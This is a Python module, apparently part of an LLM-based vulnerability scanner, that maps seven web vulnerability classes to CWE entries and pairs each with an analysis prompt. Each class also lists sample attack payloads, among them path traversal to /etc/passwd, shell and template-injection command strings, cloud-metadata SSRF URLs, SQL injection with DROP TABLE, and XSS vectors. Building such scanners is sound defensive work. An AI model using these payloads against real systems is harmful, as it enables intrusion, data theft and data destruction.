"""Vulnerability classes: CWE mapping and per-type refinement prompts."""

VULN_TYPES = ["LFI", "RCE", "SSRF", "AFO", "SQLI", "XSS", "IDOR"]

CWE_MAP = {
    "LFI": "CWE-22",
    "RCE": "CWE-78",
    "SSRF": "CWE-918",
    "AFO": "CWE-73",
    "SQLI": "CWE-89",
    "XSS": "CWE-79",
    "IDOR": "CWE-639",
}

CWE_NAMES = {
    "CWE-22": "Path Traversal",
    "CWE-78": "OS Command Injection",
    "CWE-918": "Server-Side Request Forgery",
    "CWE-73": "External Control of File Name or Path",
    "CWE-89": "SQL Injection",
    "CWE-79": "Cross-site Scripting",
    "CWE-639": "Authorization Bypass Through User-Controlled Key",
}

# Per-type instructions and known filter bypasses handed to the model during
# refinement. Each entry: {"prompt": str, "bypasses": [str, ...]}
VULN_PROMPTS = {
    "LFI": {
        "prompt": (
            "Analyze the code for Local File Inclusion vulnerabilities. Trace user input "
            "into file reads (open, send_file, FileResponse, Path.read_text) and check "
            "whether normalization, allow-lists or base-directory checks stop traversal."
        ),
        "bypasses": [
            "../../../../etc/passwd",
            "/proc/self/environ",
            "data:text/plain;base64,SGVsbG8sIFdvcmxkIQ==",
            "file:///etc/passwd",
            "..//..//..//etc/passwd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        ],
    },
    "RCE": {
        "prompt": (
            "Analyze the code for Remote Code Execution vulnerabilities. Follow user input "
            "into eval/exec, subprocess and os.system calls, pickle/yaml deserialization and "
            "template rendering, and check whether sanitization or quoting is effective."
        ),
        "bypasses": [
            "__import__('os').system('id')",
            "; id #",
            "$(touch /tmp/pwned)",
            "`id`",
            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
            "!!python/object/apply:os.system ['id']",
        ],
    },
    "SSRF": {
        "prompt": (
            "Analyze the code for Server-Side Request Forgery vulnerabilities. Trace "
            "user-controlled URLs, hosts and ports into outbound HTTP clients and check "
            "scheme, host and redirect validation."
        ),
        "bypasses": [
            "http://0.0.0.0:22",
            "file:///etc/passwd",
            "dict://127.0.0.1:11211/",
            "http://[::]:80/",
            "http://169.254.169.254/latest/meta-data/",
            "http://localtest.me",
        ],
    },
    "AFO": {
        "prompt": (
            "Analyze the code for Arbitrary File Overwrite vulnerabilities. Trace user input "
            "into file writes, uploads, archive extraction and moves, and check that the "
            "destination path cannot escape its intended directory."
        ),
        "bypasses": [
            "../../../../etc/passwd",
            "/var/www/html/index.php",
            "../../../../root/.ssh/authorized_keys",
            "evil.zip containing ../../app/config.py",
        ],
    },
    "SQLI": {
        "prompt": (
            "Analyze the code for SQL Injection vulnerabilities. Trace user input into "
            "query construction (string formatting, concatenation, raw/extra/text calls) "
            "and check whether parameter binding is used end to end."
        ),
        "bypasses": [
            "' UNION SELECT username, password FROM users--",
            "1 OR 1=1--",
            "admin'--",
            "1; DROP TABLE users--",
            "' OR '1'='1",
        ],
    },
    "XSS": {
        "prompt": (
            "Analyze the code for Cross-Site Scripting vulnerabilities. Trace user input into "
            "HTML responses and templates and check escaping, Markup/mark_safe/|safe usage "
            "and disabled autoescape."
        ),
        "bypasses": [
            "<script>alert(document.domain)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "<svg/onload=alert(1)>",
            "'\"><script>alert(1)</script>",
        ],
    },
    "IDOR": {
        "prompt": (
            "Analyze the code for Insecure Direct Object Reference vulnerabilities. Check "
            "whether objects fetched by user-supplied identifiers are verified to belong to "
            "the requesting user before being read, changed or deleted."
        ),
        "bypasses": [
            "Increment or decrement numeric identifiers",
            "Replace your own UUID with another user's UUID",
            "Swap the id in the path while keeping your own session",
            "Request /api/users/1 after authenticating as user 2",
        ],
    },
}
